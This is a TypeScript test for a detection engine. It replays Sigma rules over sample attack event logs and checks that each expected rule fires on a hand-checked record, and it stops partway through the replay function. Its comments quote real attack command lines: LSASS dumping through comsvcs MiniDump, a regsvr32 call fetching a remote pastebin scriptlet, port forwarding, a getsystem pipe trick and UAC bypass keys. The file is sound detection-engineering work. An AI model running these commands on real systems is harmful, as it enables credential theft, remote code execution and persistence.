/**
 * SigmaHQ rules replayed over the EVTX attack samples: detections carry the Sigma UUID as
 * their rule id, and on a hand-checked set of sample files the expected Sigma rules fire on
 * the expected event.
 *
 * Every row below was checked by hand: the Sigma rule's YAML (path under the Sigma `rules/`
 * folder) was read next to the event's fields (as `evtxexport -f xml` renders them) and the
 * rule's selection really matches that event for the reason given, not by accident.
 * Sample paths are relative to `evtx-attack-samples/`; "rec" is the EventRecordID.
 *
 * | Sample file | Sigma rule id | Rule title | Event (rec) and key field | Why it fires |
 * |---|---|---|---|---|
 * | Credential Access/sysmon_10_1_memdump_comsvcs_minidump.evtx | 646ea171-dded-4578-8a4d-65e9822892e3 | Process Memory Dump Via Comsvcs.DLL | Sysmon 1 (32154) CommandLine `rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 ... full` | rundll32 image + cmdline has `comsvcs`, `full` and `MiniDump` |
 * | Credential Access/sysmon_10_11_lsass_memdump.evtx | a5a2d357-1ab8-4675-a967-ef9990a59391 | LSASS Process Memory Dump Files | Sysmon 11 (4433) TargetFilename `C:\Users\IEUser\Desktop\lsass.exe_190317_120941.dmp` (procdump) | TargetFilename contains both `\lsass` and `.dmp` |
 * | Credential Access/sysmon_10_11_lsass_memdump.evtx | 69ca12af-119d-44ed-b50f-a47af0ebc364 | LSASS Process Memory Dump Creation Via Taskmgr.EXE | Sysmon 11 (4441) Image `C:\Windows\system32\taskmgr.exe`, TargetFilename `...\AppData\Local\Temp\lsass (2).DMP` | Task Manager "Create dump file" on lsass: taskmgr image + Temp path + `\lsass` + `.DMP` |
 * | Credential Access/CA_DCSync_4662.evtx | 17d619c1-e020-4347-957e-1d1207455c93 | Active Directory Replication from Non Machine Account - DcSync Indicator | Security 4662 (202791) Properties has `{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}`, SubjectUserName `Administrator` | DS-Replication-Get-Changes right used by a user (not a `$` machine account) |
 * | Credential Access/Powershell_4104_MiniDumpWriteDump_Lsass.evtx | 84c174ab-d3ef-481f-9c86-a50d0b8e3edb | PowerShell Get-Process LSASS in ScriptBlock | PowerShell 4104 (971) ScriptBlockText `$Process = Get-Process lsass` then MiniDumpWriteDump | ScriptBlockText contains `Get-Process lsass` |
 * | Credential Access/sysmon_rdrleakdiag_lsass_dump.evtx | edadb1e5-5919-4e4c-8462-a9e643b02c4b | Process Memory Dump via RdrLeakDiag.EXE | Sysmon 1 (5226) CommandLine `rdrleakdiag.exe  /p 668 /o C:\Users\wanwan\Desktop /fullmemdmp /snap` | rdrleakdiag image + `fullmemdmp` + ` /o ` / ` /p ` |
 * | Credential Access/CA_hashdump_4663_4656_lsass_access.evtx | 962fe167-e48d-4fd6-9974-11e5b9a5d6d1 | LSASS Access From Non System Account | Security 4656 (314461) ObjectName `...\System32\lsass.exe`, AccessMask `0x001f3fff`, SubjectUserName `IEUser`, ProcessName `cscript.exe` | Process handle to lsass with mask 0x1f3fff by a user account, not from Program Files |
 * | Credential Access/sysmon_10_11_outlfank_dumpert_and_andrewspecial_memdump.evtx | 93d94efc-d7ad-4161-ad7d-1638c4f908d8 | HackTool - Dumpert Process Dumper Default File | Sysmon 11 (238375) Image `Outflank-Dumpert.exe`, TargetFilename `C:\Windows\Temp\dumpert.dmp` | TargetFilename ends with `dumpert.dmp` |
 * | Credential Access/4794_DSRM_password_change_t1098.evtx | 53ad8e36-f573-46bf-97e4-15ba5bf4bb51 | Password Change on Directory Service Restore Mode (DSRM) Account | Security 4794 (3139859) SubjectUserName `administrator` | EventID 4794 is the DSRM password set attempt |
 * | Defense Evasion/DE_1102_security_log_cleared.evtx | d99b79d2-0a6f-4f46-ad8b-260b6e17f982 | Security Eventlog Cleared | Security 1102 (452811) Provider `Microsoft-Windows-Eventlog` | EventID 1102 from the Eventlog provider |
 * | Defense Evasion/DE_104_system_log_cleared.evtx | 100ef69e-3327-481c-8e5c-6d80d9507556 | Important Windows Eventlog Cleared | System 104 (27736) Provider `Microsoft-Windows-Eventlog`, Channel `System` | EventID 104 on the System channel |
 * | Defense Evasion/DE_UAC_Disabled_Sysmon_12_13.evtx | 48437c39-9e5f-47fb-af95-3d663c3f2919 | UAC Disabled | Sysmon 13 (18619) TargetObject `HKLM\...\CurrentVersion\policies\system\EnableLUA`, Details `DWORD (0x00000000)` | EnableLUA set to 0 |
 * | Defense Evasion/de_PsScriptBlockLogging_disabled_sysmon12_13.evtx | fecfd1a1-cc78-4313-a1ea-2ee2e8ec27a7 | PowerShell Logging Disabled Via Registry Key Tampering | Sysmon 13 (18967) TargetObject `...\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging`, Details `DWORD (0x00000000)` | Script block logging policy set to 0 |
 * | Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx | 4281cb20-2994-4580-aa63-c8b86d019934 | Hiding Files with Attrib.exe | Sysmon 1 (22013) Image `attrib.exe`, CommandLine `attrib  +h nbtscan.exe` | attrib with ` +h `, not on desktop.ini |
 * | Defense Evasion/de_portforward_netsh_rdp_sysmon_13_1.evtx | 782d6f3e-4c5d-4b8c-92a3-1d05fed72e63 | RDP Port Forwarding Rule Added Via Netsh.EXE | Sysmon 1 (1026) CommandLine `netsh  I p a v l=8001 listena=1.2.3.4 connectp=3389 c=1.2.3.5` | netsh `i`nterface `p`ortproxy with `=3389` |
 * | Defense Evasion/de_portforward_netsh_rdp_sysmon_13_1.evtx | a54f842a-3713-4b45-8c84-5f136fdebd3c | New PortProxy Registry Entry Added | Sysmon 13 (1027) TargetObject `HKLM\System\CurrentControlSet\services\PortProxy\v4tov4\tcp\1.2.3.4/8001` | TargetObject contains `\Services\PortProxy\v4tov4\tcp\` |
 * | Defense Evasion/DSE_bypass_BYOV_TDL_dummydriver_sysmon_6_7_13.evtx | 72cd00d6-490c-4650-86ff-1d11f491daa1 | Vulnerable Driver Load By Name | Sysmon 6 (18766) ImageLoaded `C:\Windows\System32\drivers\VBoxDrv.sys` | Vulnerable VirtualBox driver (TDL's bring-your-own-driver) listed as `\vboxdrv.sys` |
 * | Execution/exec_sysmon_lobin_regsvr32_sct.evtx | 867356ee-9352-41c9-a8f2-1be690d78216 | Potentially Suspicious Regsvr32 HTTP/FTP Pattern | Sysmon 1 (16792) CommandLine `regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll` | regsvr32 with ` /i` and `http` (Squiblydoo) |
 * | Execution/exec_sysmon_lobin_regsvr32_sct.evtx | c7e91a02-d771-4a6d-a700-42587e0b1095 | Network Connection Initiated By Regsvr32.EXE | Sysmon 3 (16794) Image `regsvr32.exe`, Initiated `true`, 104.20.208.21:80 | Outbound connection initiated by regsvr32 |
 * | Execution/Sysmon_Exec_CompiledHTML.evtx | 68c8acb4-1b60-4890-8e82-3ddf7a6dba84 | HH.EXE Execution | Sysmon 1 (4348) Image `C:\Windows\hh.exe`, CommandLine `... Fax Record N104F.chm` | hh.exe opening a `.chm` |
 * | Execution/Sysmon_Exec_CompiledHTML.evtx | 52cad028-0ff0-4854-8f67-d25dfcbc78b4 | HTML Help HH.EXE Suspicious Child Process | Sysmon 1 (4353) Image `cmd.exe`, ParentImage `C:\Windows\hh.exe` | cmd.exe spawned by hh.exe |
 * | Execution/exec_msxsl_xsl_sysmon_1_7.evtx | 9e50a8b3-dd05-4eb8-9153-bdb6b79d50b0 | Msxsl.EXE Execution | Sysmon 1 (1017) Image `\\vboxsrv\HTools\msxsl.exe` | Image ends with `\msxsl.exe` |
 * | Execution/exec_sysmon_1_lolbin_pcalua.evtx | 0955e4e1-c281-4fb9-9ee1-5ee7b4b754d2 | Use of Pcalua For Execution | Sysmon 1 (16497) CommandLine `"C:\Windows\System32\pcalua.exe"  -a c:\Windows\system32\calc.exe` | pcalua image with ` -a` |
 * | Execution/sysmon_lolbin_bohops_vshadow_exec.evtx | d7c75059-2901-4578-b209-8837fd31c6a8 | Proxy Execution via Vshadow | Sysmon 1 (6406) CommandLine `vshadow.exe  -nw -exec=c:\windows\System32\osk.exe c:\` | vshadow image with `-exec` |
 * | Persistence/sysmon_13_1_persistence_via_winlogon_shell.evtx | cbf93e5d-ca6c-4722-8bea-e9119007c248 | CurrentVersion NT Autorun Keys Modification | Sysmon 13 (7532) TargetObject `HKU\...\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell`, Details `"...\BRE6BgE2JubB.exe",explorer.exe` | Winlogon\Shell under Windows NT\CurrentVersion set by a.exe (no filter applies) |
 * | Persistence/sysmon_20_21_1_CommandLineEventConsumer.evtx | 0f06a3a5-6a09-413f-8743-e6cf35561297 | WMI Event Subscription | Sysmon 20 (16111) Name `"BotConsumer23"`, Type `Command Line`, Destination `cmd.exe` | Sysmon WMI event ID 20 |
 * | Persistence/persistence_SilentProcessExit_ImageHijack_sysmon_13_1.evtx | 36803969-5421-41ec-b92f-8500f79c23b0 | Potential Persistence Via GlobalFlags | Sysmon 13 (8034) TargetObject `...\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe\GlobalFlag`, Details `DWORD (0x00000200)` | IFEO GlobalFlag (FLG_MONITOR_SILENT_PROCESS_EXIT) set |
 * | Persistence/persistence_hidden_local_account_sysmon.evtx | 460479f3-80b7-42da-9c43-2cc1d54dbccd | Creation of a Local Hidden User Account by Registry | Sysmon 13 (596571) Image `lsass.exe`, TargetObject `HKLM\SAM\SAM\Domains\Account\Users\Names\hideme0007$\(Default)` | SAM user name ending in `$` written by lsass |
 * | Persistence/Network_Service_Guest_added_to_admins_4732.evtx | c265cf08-3f99-46c1-8d59-328247057d57 | User Added to Local Administrator Group | Security 4732 (191029) TargetUserName `Administrators`, TargetSid `S-1-5-32-544`, SubjectUserName `IEUser` | Member (Guest, RID 501) added to Builtin\Administrators by a user |
 * | Persistence/wmighost_sysmon_20_21_1.evtx | fe21810c-2a8c-478f-8dd3-5a287fb2a0e0 | Suspicious Scripting in a WMI Consumer | Sysmon 20 (7195) Type `Script`, Destination JScript with `new $._x('WScript.Shell')` | Consumer Destination contains `WScript.Shell` |
 * | Lateral Movement/LM_winrm_exec_sysmon_1_winrshost.evtx | 79df3f68-dccb-48e9-9171-b75cbc37c51d | Potential Lateral Movement via Windows Remote Shell | Sysmon 1 (17985) CommandLine `cmd.exe /C ipconfig`, ParentImage `C:\Windows\System32\winrshost.exe` | Child of winrshost.exe that is not conhost |
 * | Lateral Movement/LM_PowershellRemoting_sysmon_1_wsmprovhost.evtx | 734f8d9b-42b8-41b2-bcf5-abaf49d5a3c8 | Remote PowerShell Session Host Process (WinRM) | Sysmon 1 (18002) Image `HOSTNAME.EXE`, ParentImage `C:\Windows\System32\wsmprovhost.exe` | Parent is the WinRM PowerShell session host |
 * | Lateral Movement/LM_impacket_docmexec_mmc_sysmon_01.evtx | f1f3bf22-deb2-418d-8cce-e1a45e46a5bd | MMC20 Lateral Movement | Sysmon 1 (9832) Image `mmc.exe`, CommandLine `mmc.exe -Embedding`, ParentImage `svchost.exe` (-k DcomLaunch) | MMC20.Application started over DCOM |
 * | Lateral Movement/LM_impacket_docmexec_mmc_sysmon_01.evtx | 05a2ab7e-ce11-4b63-86db-ab32e763e11d | MMC Spawning Windows Shell | Sysmon 1 (9833) Image `cmd.exe` (`/Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656511.61`), ParentImage `mmc.exe` | cmd.exe child of mmc.exe |
 * | Lateral Movement/remote_file_copy_system_proc_file_write_sysmon_11.evtx | 259e5a6a-b8d2-4c38-86e2-26c5e651361d | PsExec Service File Creation | Sysmon 11 (263572) Image `System`, TargetFilename `C:\Windows\PSEXESVC.exe` | TargetFilename ends with `\PSEXESVC.exe` |
 * | Lateral Movement/remote_file_copy_system_proc_file_write_sysmon_11.evtx | fdfcbd78-48f1-4a4b-90ac-d82241e368c5 | PsExec Service Execution | Sysmon 1 (263573) Image `C:\Windows\PSEXESVC.exe`, ParentImage `services.exe` | Image is exactly `C:\Windows\PSEXESVC.exe` |
 * | Lateral Movement/LM_renamed_psexecsvc_5145.evtx | c462f537-a1e3-41a6-b5fc-b2c2cef9bf82 | Suspicious PsExec Execution | Security 5145 (84050) ShareName `\\*\IPC$`, RelativeTargetName `blabla-NLLT108334-37048-stdin` | PsExec-style `-stdin` pipe on IPC$ whose name does not start with PSEXESVC (renamed service) |
 * | Lateral Movement/LM_xp_cmdshell_MSSQL_Events.evtx | 7f103213-a04e-4d59-8261-213dddf22314 | MSSQL XPCmdshell Suspicious Execution | Application 33205 (9693) Provider `MSSQLSERVER`, Data `object_name:xp_cmdshell ... statement:EXEC master..xp_cmdshell 'Whoami'` | SQL audit record of an xp_cmdshell EXEC |
 * | Discovery/dicovery_4661_net_group_domain_admins_target.evtx | 35ba1d85-724d-42a3-889f-2e2362bcaf23 | AD Privileged Users or Groups Reconnaissance | Security 4661 (565603) ObjectType `SAM_GROUP`, ObjectName `S-1-5-21-...-512`, SubjectUserName `user01` | Handle to the Domain Admins group (RID 512) by a user account |
 * | Privilege Escalation/Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx | 674202d0-b22a-4af4-ae5f-2eda1f3da1af | Bypass UAC Using Event Viewer | Sysmon 13 (11112) TargetObject `HKU\..._CLASSES\mscfile\shell\open\command\(Default)`, Details `...\powershell.exe` | mscfile open command hijacked (not the default mmc.exe value) |
 * | Privilege Escalation/Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx | be344333-921d-4c4d-8bb8-e584cf584780 | Potentially Suspicious Event Viewer Child Process | Sysmon 1 (11116) Image `powershell.exe`, ParentImage `C:\Windows\System32\eventvwr.exe` | eventvwr.exe child that is not mmc.exe / WerFault.exe |
 * | Privilege Escalation/System_7045_namedpipe_privesc.evtx | 843544a7-56e0-4dcc-a44f-5cc266dd97d6 | Meterpreter or Cobalt Strike Getsystem Service Installation - System | System 7045 (10446) ImagePath `%COMSPEC% /c ping -n 1 127.0.0.1 >nul && echo 'WinPwnage' > \\.\pipe\WinPwnagePipe` | Service Control Manager 7045 whose ImagePath has `/c`, `echo`, `\pipe\` and `%COMSPEC%` |
 * | Privilege Escalation/4765_sidhistory_add_t1178.evtx | 2632954e-db1c-49cb-9936-67d1ef1d17d2 | Addition of SID History to Active Directory Object | Security 4765 (8075) SourceUserName `maincorp.local\Domain Admins`, TargetUserName `Andrei` | EventID 4765 (SID History added) |
 * | Privilege Escalation/EfsPotato_sysmon_17_18_privesc_seimpersonate_to_system.evtx | 637f689e-b4a5-4a86-be0e-0100a0a33ba2 | HackTool - EfsPotato Named Pipe Creation | Sysmon 17 (1912932) Image `c:\temp\EfsPotato.exe`, PipeName `\dd4c18dc-...\pipe\srvsvc` | Pipe name contains `\pipe\` but does not start with `\pipe\` |
 * | Command and Control/DE_sysmon-3-rdp-tun.evtx | 48a61b29-389f-4032-b317-b30de6b95314 | Suspicious Plink Port Forwarding | Sysmon 1 (1940899) Description `Command-line SSH, Telnet, and Rlogin client`, CommandLine `plink.exe  10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 ...` | PuTTY plink with a ` -R ` remote forward |
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { builtinsOff } from '../support/cli.js';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { datasetsDir, projectRoot } from '../../core/paths.js';
import type { VigilEvent } from '../../core/events/event.js';
import { loadSigmaRules } from '../../lib/sigma/index.js';
import { compileRuleSet, type RuleSet } from '../../lib/rules/index.js';
import { readEvtxRecords } from '../../lib/evtx/index.js';
import { normalizeWindowsEvent } from '../../lib/windows/index.js';

interface Expected {
  /** Sigma rule id (the UUID from the rule file's `id:`). */
  id: string;
  title: string;
  /** Rule file, relative to the Sigma `rules/` folder. */
  rule: string;
  /** EventRecordID (System/EventRecordID, not the file-local record number) of the hand-checked event. */
  record: number;
}

interface Case {
  /** Relative to `evtx-attack-samples/`. */
  file: string;
  expect: Expected[];
}

const CASES: Case[] = [
  {
    file: 'Credential Access/sysmon_10_1_memdump_comsvcs_minidump.evtx',
    expect: [{ id: '646ea171-dded-4578-8a4d-65e9822892e3', title: 'Process Memory Dump Via Comsvcs.DLL', rule: 'windows/process_creation/proc_creation_win_rundll32_process_dump_via_comsvcs.yml', record: 32154 }],
  },
  {
    file: 'Credential Access/sysmon_10_11_lsass_memdump.evtx',
    expect: [
      { id: 'a5a2d357-1ab8-4675-a967-ef9990a59391', title: 'LSASS Process Memory Dump Files', rule: 'windows/file/file_event/file_event_win_lsass_default_dump_file_names.yml', record: 4433 },
      { id: '69ca12af-119d-44ed-b50f-a47af0ebc364', title: 'LSASS Process Memory Dump Creation Via Taskmgr.EXE', rule: 'windows/file/file_event/file_event_win_taskmgr_lsass_dump.yml', record: 4441 },
    ],
  },
  {
    file: 'Credential Access/CA_DCSync_4662.evtx',
    expect: [{ id: '17d619c1-e020-4347-957e-1d1207455c93', title: 'Active Directory Replication from Non Machine Account - DcSync Indicator', rule: 'windows/builtin/security/win_security_ad_replication_non_machine_account.yml', record: 202791 }],
  },
  {
    file: 'Credential Access/Powershell_4104_MiniDumpWriteDump_Lsass.evtx',
    expect: [{ id: '84c174ab-d3ef-481f-9c86-a50d0b8e3edb', title: 'PowerShell Get-Process LSASS in ScriptBlock', rule: 'windows/powershell/powershell_script/posh_ps_susp_getprocess_lsass.yml', record: 971 }],
  },
  {
    file: 'Credential Access/sysmon_rdrleakdiag_lsass_dump.evtx',
    expect: [{ id: 'edadb1e5-5919-4e4c-8462-a9e643b02c4b', title: 'Process Memory Dump via RdrLeakDiag.EXE', rule: 'windows/process_creation/proc_creation_win_rdrleakdiag_process_dumping.yml', record: 5226 }],
  },
  {
    file: 'Credential Access/CA_hashdump_4663_4656_lsass_access.evtx',
    expect: [{ id: '962fe167-e48d-4fd6-9974-11e5b9a5d6d1', title: 'LSASS Access From Non System Account', rule: 'windows/builtin/security/win_security_lsass_access_non_system_account.yml', record: 314461 }],
  },
  {
    file: 'Credential Access/sysmon_10_11_outlfank_dumpert_and_andrewspecial_memdump.evtx',
    expect: [{ id: '93d94efc-d7ad-4161-ad7d-1638c4f908d8', title: 'HackTool - Dumpert Process Dumper Default File', rule: 'windows/file/file_event/file_event_win_hktl_dumpert.yml', record: 238375 }],
  },
  {
    file: 'Credential Access/4794_DSRM_password_change_t1098.evtx',
    expect: [{ id: '53ad8e36-f573-46bf-97e4-15ba5bf4bb51', title: 'Password Change on Directory Service Restore Mode (DSRM) Account', rule: 'windows/builtin/security/win_security_susp_dsrm_password_change.yml', record: 3139859 }],
  },
  {
    file: 'Defense Evasion/DE_1102_security_log_cleared.evtx',
    expect: [{ id: 'd99b79d2-0a6f-4f46-ad8b-260b6e17f982', title: 'Security Eventlog Cleared', rule: 'windows/builtin/security/win_security_audit_log_cleared.yml', record: 452811 }],
  },
  {
    file: 'Defense Evasion/DE_104_system_log_cleared.evtx',
    expect: [{ id: '100ef69e-3327-481c-8e5c-6d80d9507556', title: 'Important Windows Eventlog Cleared', rule: 'windows/builtin/system/microsoft_windows_eventlog/win_system_susp_eventlog_cleared.yml', record: 27736 }],
  },
  {
    file: 'Defense Evasion/DE_UAC_Disabled_Sysmon_12_13.evtx',
    expect: [{ id: '48437c39-9e5f-47fb-af95-3d663c3f2919', title: 'UAC Disabled', rule: 'windows/registry/registry_set/registry_set_uac_disable.yml', record: 18619 }],
  },
  {
    file: 'Defense Evasion/de_PsScriptBlockLogging_disabled_sysmon12_13.evtx',
    expect: [{ id: 'fecfd1a1-cc78-4313-a1ea-2ee2e8ec27a7', title: 'PowerShell Logging Disabled Via Registry Key Tampering', rule: 'windows/registry/registry_set/registry_set_powershell_logging_disabled.yml', record: 18967 }],
  },
  {
    file: 'Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx',
    expect: [{ id: '4281cb20-2994-4580-aa63-c8b86d019934', title: 'Hiding Files with Attrib.exe', rule: 'windows/process_creation/proc_creation_win_attrib_hiding_files.yml', record: 22013 }],
  },
  {
    file: 'Defense Evasion/de_portforward_netsh_rdp_sysmon_13_1.evtx',
    expect: [
      { id: '782d6f3e-4c5d-4b8c-92a3-1d05fed72e63', title: 'RDP Port Forwarding Rule Added Via Netsh.EXE', rule: 'windows/process_creation/proc_creation_win_netsh_port_forwarding_3389.yml', record: 1026 },
      { id: 'a54f842a-3713-4b45-8c84-5f136fdebd3c', title: 'New PortProxy Registry Entry Added', rule: 'windows/registry/registry_event/registry_event_portproxy_registry_key.yml', record: 1027 },
    ],
  },
  {
    file: 'Defense Evasion/DSE_bypass_BYOV_TDL_dummydriver_sysmon_6_7_13.evtx',
    expect: [{ id: '72cd00d6-490c-4650-86ff-1d11f491daa1', title: 'Vulnerable Driver Load By Name', rule: 'windows/driver_load/driver_load_win_vuln_drivers_names.yml', record: 18766 }],
  },
  {
    file: 'Execution/exec_sysmon_lobin_regsvr32_sct.evtx',
    expect: [
      { id: '867356ee-9352-41c9-a8f2-1be690d78216', title: 'Potentially Suspicious Regsvr32 HTTP/FTP Pattern', rule: 'windows/process_creation/proc_creation_win_regsvr32_network_pattern.yml', record: 16792 },
      { id: 'c7e91a02-d771-4a6d-a700-42587e0b1095', title: 'Network Connection Initiated By Regsvr32.EXE', rule: 'windows/network_connection/net_connection_win_regsvr32_network_activity.yml', record: 16794 },
    ],
  },
  {
    file: 'Execution/Sysmon_Exec_CompiledHTML.evtx',
    expect: [
      { id: '68c8acb4-1b60-4890-8e82-3ddf7a6dba84', title: 'HH.EXE Execution', rule: 'windows/process_creation/proc_creation_win_hh_chm_execution.yml', record: 4348 },
      { id: '52cad028-0ff0-4854-8f67-d25dfcbc78b4', title: 'HTML Help HH.EXE Suspicious Child Process', rule: 'windows/process_creation/proc_creation_win_hh_html_help_susp_child_process.yml', record: 4353 },
    ],
  },
  {
    file: 'Execution/exec_msxsl_xsl_sysmon_1_7.evtx',
    expect: [{ id: '9e50a8b3-dd05-4eb8-9153-bdb6b79d50b0', title: 'Msxsl.EXE Execution', rule: 'windows/process_creation/proc_creation_win_msxsl_execution.yml', record: 1017 }],
  },
  {
    file: 'Execution/exec_sysmon_1_lolbin_pcalua.evtx',
    expect: [{ id: '0955e4e1-c281-4fb9-9ee1-5ee7b4b754d2', title: 'Use of Pcalua For Execution', rule: 'windows/process_creation/proc_creation_win_lolbin_pcalua.yml', record: 16497 }],
  },
  {
    file: 'Execution/sysmon_lolbin_bohops_vshadow_exec.evtx',
    expect: [{ id: 'd7c75059-2901-4578-b209-8837fd31c6a8', title: 'Proxy Execution via Vshadow', rule: 'windows/process_creation/proc_creation_win_vshadow_exec.yml', record: 6406 }],
  },
  {
    file: 'Persistence/sysmon_13_1_persistence_via_winlogon_shell.evtx',
    expect: [{ id: 'cbf93e5d-ca6c-4722-8bea-e9119007c248', title: 'CurrentVersion NT Autorun Keys Modification', rule: 'windows/registry/registry_set/registry_set_asep_reg_keys_modification_currentversion_nt.yml', record: 7532 }],
  },
  {
    file: 'Persistence/sysmon_20_21_1_CommandLineEventConsumer.evtx',
    expect: [{ id: '0f06a3a5-6a09-413f-8743-e6cf35561297', title: 'WMI Event Subscription', rule: 'windows/wmi_event/sysmon_wmi_event_subscription.yml', record: 16111 }],
  },
  {
    file: 'Persistence/persistence_SilentProcessExit_ImageHijack_sysmon_13_1.evtx',
    expect: [{ id: '36803969-5421-41ec-b92f-8500f79c23b0', title: 'Potential Persistence Via GlobalFlags', rule: 'windows/registry/registry_set/registry_set_persistence_globalflags.yml', record: 8034 }],
  },
  {
    file: 'Persistence/persistence_hidden_local_account_sysmon.evtx',
    expect: [{ id: '460479f3-80b7-42da-9c43-2cc1d54dbccd', title: 'Creation of a Local Hidden User Account by Registry', rule: 'windows/registry/registry_event/registry_event_add_local_hidden_user.yml', record: 596571 }],
  },
  {
    file: 'Persistence/Network_Service_Guest_added_to_admins_4732.evtx',
    expect: [{ id: 'c265cf08-3f99-46c1-8d59-328247057d57', title: 'User Added to Local Administrator Group', rule: 'windows/builtin/security/win_security_user_added_to_local_administrators.yml', record: 191029 }],
  },
  {
    file: 'Persistence/wmighost_sysmon_20_21_1.evtx',
    expect: [{ id: 'fe21810c-2a8c-478f-8dd3-5a287fb2a0e0', title: 'Suspicious Scripting in a WMI Consumer', rule: 'windows/wmi_event/sysmon_wmi_susp_scripting.yml', record: 7195 }],
  },
  {
    file: 'Lateral Movement/LM_winrm_exec_sysmon_1_winrshost.evtx',
    expect: [{ id: '79df3f68-dccb-48e9-9171-b75cbc37c51d', title: 'Potential Lateral Movement via Windows Remote Shell', rule: 'windows/process_creation/proc_creation_win_winrshost_command_execution.yml', record: 17985 }],
  },
  {
    file: 'Lateral Movement/LM_PowershellRemoting_sysmon_1_wsmprovhost.evtx',
    expect: [{ id: '734f8d9b-42b8-41b2-bcf5-abaf49d5a3c8', title: 'Remote PowerShell Session Host Process (WinRM)', rule: 'windows/process_creation/proc_creation_win_winrm_remote_powershell_session_process.yml', record: 18002 }],
  },
  {
    file: 'Lateral Movement/LM_impacket_docmexec_mmc_sysmon_01.evtx',
    expect: [
      { id: 'f1f3bf22-deb2-418d-8cce-e1a45e46a5bd', title: 'MMC20 Lateral Movement', rule: 'windows/process_creation/proc_creation_win_mmc_mmc20_lateral_movement.yml', record: 9832 },
      { id: '05a2ab7e-ce11-4b63-86db-ab32e763e11d', title: 'MMC Spawning Windows Shell', rule: 'windows/process_creation/proc_creation_win_mmc_susp_child_process.yml', record: 9833 },
    ],
  },
  {
    file: 'Lateral Movement/remote_file_copy_system_proc_file_write_sysmon_11.evtx',
    expect: [
      { id: '259e5a6a-b8d2-4c38-86e2-26c5e651361d', title: 'PsExec Service File Creation', rule: 'windows/file/file_event/file_event_win_sysinternals_psexec_service.yml', record: 263572 },
      { id: 'fdfcbd78-48f1-4a4b-90ac-d82241e368c5', title: 'PsExec Service Execution', rule: 'windows/process_creation/proc_creation_win_sysinternals_psexesvc.yml', record: 263573 },
    ],
  },
  {
    file: 'Lateral Movement/LM_renamed_psexecsvc_5145.evtx',
    expect: [{ id: 'c462f537-a1e3-41a6-b5fc-b2c2cef9bf82', title: 'Suspicious PsExec Execution', rule: 'windows/builtin/security/win_security_susp_psexec.yml', record: 84050 }],
  },
  {
    file: 'Lateral Movement/LM_xp_cmdshell_MSSQL_Events.evtx',
    expect: [{ id: '7f103213-a04e-4d59-8261-213dddf22314', title: 'MSSQL XPCmdshell Suspicious Execution', rule: 'windows/builtin/application/mssqlserver/win_mssql_xp_cmdshell_audit_log.yml', record: 9693 }],
  },
  {
    file: 'Discovery/dicovery_4661_net_group_domain_admins_target.evtx',
    expect: [{ id: '35ba1d85-724d-42a3-889f-2e2362bcaf23', title: 'AD Privileged Users or Groups Reconnaissance', rule: 'windows/builtin/security/win_security_account_discovery.yml', record: 565603 }],
  },
  {
    file: 'Privilege Escalation/Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx',
    expect: [
      { id: '674202d0-b22a-4af4-ae5f-2eda1f3da1af', title: 'Bypass UAC Using Event Viewer', rule: 'windows/registry/registry_set/registry_set_bypass_uac_using_eventviewer.yml', record: 11112 },
      { id: 'be344333-921d-4c4d-8bb8-e584cf584780', title: 'Potentially Suspicious Event Viewer Child Process', rule: 'windows/process_creation/proc_creation_win_eventvwr_susp_child_process.yml', record: 11116 },
    ],
  },
  {
    file: 'Privilege Escalation/System_7045_namedpipe_privesc.evtx',
    expect: [
      {
        id: '843544a7-56e0-4dcc-a44f-5cc266dd97d6',
        title: 'Meterpreter or Cobalt Strike Getsystem Service Installation - System',
        rule: 'windows/builtin/system/service_control_manager/win_system_meterpreter_or_cobaltstrike_getsystem_service_installation.yml',
        record: 10446,
      },
    ],
  },
  {
    file: 'Privilege Escalation/4765_sidhistory_add_t1178.evtx',
    expect: [{ id: '2632954e-db1c-49cb-9936-67d1ef1d17d2', title: 'Addition of SID History to Active Directory Object', rule: 'windows/builtin/security/win_security_susp_add_sid_history.yml', record: 8075 }],
  },
  {
    file: 'Privilege Escalation/EfsPotato_sysmon_17_18_privesc_seimpersonate_to_system.evtx',
    expect: [{ id: '637f689e-b4a5-4a86-be0e-0100a0a33ba2', title: 'HackTool - EfsPotato Named Pipe Creation', rule: 'windows/pipe_created/pipe_created_hktl_efspotato.yml', record: 1912932 }],
  },
  {
    file: 'Command and Control/DE_sysmon-3-rdp-tun.evtx',
    expect: [{ id: '48a61b29-389f-4032-b317-b30de6b95314', title: 'Suspicious Plink Port Forwarding', rule: 'windows/process_creation/proc_creation_win_plink_port_forwarding.yml', record: 1940899 }],
  },
];

/** The sample replayed end to end through the `vigil` command. */
const CLI_CASE = 'Credential Access/sysmon_10_11_lsass_memdump.evtx';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

const samplesDir = join(datasetsDir(), 'evtx-attack-samples');
const sigmaDir = join(datasetsDir(), 'sigma', 'rules');
const missing = [samplesDir, sigmaDir].filter((p) => !existsSync(p));
const SKIP = missing.length > 0 ? `datasets not found (${missing.join(', ')}); set VIGIL_DATASETS to the folder holding evtx-attack-samples/ and sigma/` : undefined;

interface Fired {
  source: string;
  title: string;
  records: Set<number>;
}

/** Replay one EVTX file through the rule set the way the core does (stamp, then match). */
async function replayFile(ruleSet: RuleSet, file: string): Promise<{ records: number; fired: Map<string, Fired> }> {
  const fired = new Map<string, Fired>();
  let records = 0;
  for await (const rec of readEvtxRecords(file)) {
    records++;
    const draft = normalizeWindowsEvent(rec);
    // The stamped envelope the kernel adds before analyzers see an event.
